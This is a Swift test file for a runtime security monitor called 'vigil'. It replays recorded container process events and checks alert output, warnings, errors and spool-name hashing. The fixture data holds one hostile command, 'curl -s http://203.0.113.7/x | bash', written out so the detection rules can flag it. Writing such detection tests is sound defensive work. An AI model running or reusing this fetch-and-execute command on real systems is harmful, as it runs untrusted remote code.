import Foundation
import RuleEngine
import Testing
import Watch
import VigilCore

/// A watch session run in-process over a recording: the alerts reach the configured output and
/// the status lines reach the report sink, as `vigil watch --replay` prints them.
struct WatchSessionTests {
    /// A web server in a container runs a shell that pipes a download into bash.
    static let events = """
        {"ts":1700000000000000000,"type":"execve","pid":4100,"ppid":4000,"comm":"nginx","exe":"/usr/sbin/nginx","args":["-g","daemon off;"],"uid":33,"user":"www-data","gid":33,"group":"www-data","container_id":"3f2a1b9c8d7e","container_name":"web","container_image":"docker.io/library/nginx:1.25"}
        {"ts":1700000001000000000,"type":"clone","pid":4100,"res":4200}
        {"ts":1700000001000100000,"type":"execve","pid":4200,"ppid":4100,"comm":"sh","exe":"/bin/sh","args":["-c","curl -s http://203.0.113.7/x | bash"],"cwd":"/var/www"}
        {"ts":1700000001000300000,"type":"execve","pid":4202,"ppid":4200,"comm":"bash","exe":"/bin/bash","args":[]}

        """

    func scratch() throws -> String {
        let dir = NSTemporaryDirectory() + "vigil-watch-" + UUID().uuidString
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        return dir
    }

    @Test func replayWritesAlertsToTheOutputAndCountsThem() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Self.events.write(toFile: dir + "/events.jsonl", atomically: true, encoding: .utf8)
        var c = WatchConfiguration(source: .replay(path: dir + "/events.jsonl"), cacheDirectory: dir)
        c.alertFormat = .json
        c.outputPath = dir + "/alerts.jsonl"
        var lines: [String] = []
        try WatchSession(configuration: c, report: { lines.append($0) }).run()
        let alerts = try String(contentsOfFile: dir + "/alerts.jsonl", encoding: .utf8).split(separator: "\n")
        #expect(!alerts.isEmpty, "the default rules flag a shell in a container")
        #expect(alerts.allSatisfy { $0.hasPrefix("{") })
        let summary = try #require(lines.last)
        #expect(summary.hasPrefix("vigil: 4 events, "))
        #expect(summary.contains(", \(alerts.count) alerts ("))
    }

    @Test func noRulesIsAWarningNotAnError() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Self.events.write(toFile: dir + "/events.jsonl", atomically: true, encoding: .utf8)
        var c = WatchConfiguration(source: .replay(path: dir + "/events.jsonl"), cacheDirectory: dir)
        c.includeDefaults = false
        c.outputPath = dir + "/alerts.txt"
        var lines: [String] = []
        try WatchSession(configuration: c, report: { lines.append($0) }).run()
        #expect(lines == ["vigil: warning: no active rules", "vigil: 4 events, 0 active rules, 0 alerts (0 rate-limited, 0 duplicates suppressed)"])
    }

    @Test func actionsLogThatCannotBeOpenedIsAWatchError() throws {
        let dir = try scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Self.events.write(toFile: dir + "/events.jsonl", atomically: true, encoding: .utf8)
        var c = WatchConfiguration(source: .replay(path: dir + "/events.jsonl"), cacheDirectory: dir)
        c.enableActions = true
        c.actionsLog = dir + "/missing/actions.log"
        let error = #expect(throws: WatchError.self) { try WatchSession(configuration: c, report: { _ in }).run() }
        #expect(error?.code == "watch.actions-log")
        #expect(error?.description == "\(dir)/missing/actions.log: cannot open the actions log: No such file or directory")
    }

    /// One spool directory per receiver: FNV-1a 64 of the URL (the offset basis for "").
    @Test func spoolNameIsTheURLsFNV1a() {
        #expect(WatchSession.hexHash("") == "cbf29ce484222325")
        #expect(WatchSession.hexHash("a") == "af63dc4c8601ec8c")
        #expect(WatchSession.objectPath("/x/vigil.bpf.o") == "/x/vigil.bpf.o")
    }
}
